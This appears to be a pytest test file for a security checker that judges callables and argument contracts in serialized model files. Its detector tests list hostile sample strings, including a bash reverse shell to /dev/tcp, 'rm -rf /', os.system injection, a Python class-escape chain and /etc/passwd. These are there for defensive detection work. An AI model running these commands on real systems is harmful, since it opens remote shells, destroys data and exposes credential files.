import pytest
from hypothesis import given, settings, strategies as st

from weigh.checks.security.callable_evidence import Evidence, evidence_in
from weigh.checks.security.callables import judge
from weigh.checks.security.contracts import contract
from weigh.core.facts import CallableUse, Use
from weigh.core.symbol import Symbol, SymbolKind as K

INT = Symbol(K.INT, "1")
NONE = Symbol(K.NONE, "None")
TEXT = Symbol(K.TEXT, "latin1", (), 6)
CUT = Symbol(K.TEXT, "latin1", (), 900)
UNKNOWN = Symbol(K.UNKNOWN)
INTS = Symbol(K.TUPLE, "", (INT, INT), 2)
LONG = Symbol(K.TUPLE, "", (INT,) * 16, 99)
CLASS = Symbol(K.GLOBAL, "numpy ndarray")


@pytest.mark.parametrize(
    ("said", "arguments", "fits"),
    [
        ("", (), True),
        ("", (INT,), False),
        ("int", (INT,), True),
        ("int", (), False),
        ("int", (UNKNOWN,), False),
        ("int, text?", (INT,), True),
        ("int, text?", (INT, TEXT), True),
        ("int, text?", (INT, INT), False),
        ("int*", (INTS,), True),
        ("int*", (LONG,), False),
        ("text*", (INTS,), False),
        ('text, "latin1"', (TEXT, TEXT), True),
        ('text, "latin1"', (TEXT, CUT), False),
        ('text, "utf8"', (TEXT, TEXT), False),
        ("int/none", (NONE,), True),
        ("int...", (), True),
        ("int...", (INT, INT, INT), True),
        ("int...", (INT, TEXT), False),
        ("text, ...", (TEXT, UNKNOWN, INT), True),
        ("@numpy.ndarray", (CLASS,), True),
        ("@numpy.**", (CLASS,), True),
        ("@num.**", (CLASS,), False),
        ("@numpy.matrix", (CLASS,), False),
        ("any", (UNKNOWN,), True),
        ("const", (INTS,), True),
        ("const", (UNKNOWN,), False),
        ("label", (Symbol(K.TEXT, "steps", (), 5),), True),
        ("label", (Symbol(K.TEXT, "/etc/passwd", (), 11),), False),
        ("name", (Symbol(K.TEXT, "__class__", (), 9),), False),
    ],
)
def test_a_contract_says_what_fits(said, arguments, fits):
    assert contract(said).accepts(arguments) is fits


def test_a_word_outside_the_grammar_is_a_defect():
    with pytest.raises(ValueError, match="whatever"):
        contract("int, whatever")


@pytest.mark.parametrize(
    ("said", "kind"),
    [
        ("import os; os.system('true')", Evidence.CODE),
        ("().__class__.__bases__", Evidence.CODE),
        ("lambda x: x", Evidence.CODE),
        ("touch /tmp/x", Evidence.COMMAND),
        ("x; rm -rf /", Evidence.COMMAND),
        ("whoami", Evidence.COMMAND),
        ("bash -i >& /dev/tcp/1.2.3.4/9", Evidence.COMMAND),
        ("https://evil.example", Evidence.ADDRESS),
        ("10.0.0.1", Evidence.ADDRESS),
        ("/etc/passwd", Evidence.PATH),
        ("C:\\x", Evidence.PATH),
        ("a/../../b", Evidence.PATH),
    ],
)
def test_evidence_is_found(said, kind):
    assert evidence_in((Symbol(K.TEXT, said, (), len(said)),))[0] is kind


@pytest.mark.parametrize(
    "said",
    ["", "steps", "id", "open source model", "cat sat on a mat", "a; b", "relu", "conv1.weight", "gpt-2",
     "3/4", "see `Trainer`", "start token", "1.2.3", "U+0041", "cuda:0", "model || data", "x & y"],
)  # fmt: skip
def test_ordinary_words_are_no_evidence(said):
    assert evidence_in((Symbol(K.TEXT, said, (), len(said)),)) is None


SYMBOLS = st.recursive(
    st.builds(Symbol, st.sampled_from(list(K)), st.text(max_size=20))
    | st.builds(lambda b: Symbol(K.BYTES, b.hex(), (), len(b)), st.binary(max_size=8)),
    lambda inner: st.builds(
        lambda kind, items: Symbol(kind, "x y", tuple(items), len(items)),
        st.sampled_from([K.TUPLE, K.LIST, K.DICT, K.SET, K.CALL, K.PERSISTENT]),
        st.lists(inner, max_size=4),
    ),
    max_leaves=8,
).filter(lambda symbol: symbol.kind is not K.BYTES or symbol.text == symbol.text.lower())
NAMES = st.sampled_from(
    ["getattr", "_rebuild_tensor_v2", "partial", "OrderedDict", "scalar", "x()", "A.b", ""]
)
MODULES = st.sampled_from(
    ["builtins", "torch._utils", "functools", "collections", "numpy.core.multiarray", "", "."]
)


def fixed(symbol):
    """Bytes hold hexadecimal digits, as every reader writes them."""
    whole = symbol.kind is not K.BYTES or all(c in "0123456789abcdef" for c in symbol.text)
    return whole and all(map(fixed, symbol.items))


@settings(max_examples=50, deadline=None)
@given(
    MODULES | st.text(max_size=8), NAMES | st.text(max_size=8), st.sampled_from(list(Use)), st.lists(SYMBOLS)
)
def test_judging_never_fails(module, name, how, arguments):
    arguments = tuple(a for a in arguments if fixed(a) and not (a.kind is K.BYTES and len(a.text) % 2))
    use = CallableUse(module, name, 0, how, arguments)
    assert judge(use) == judge(use)
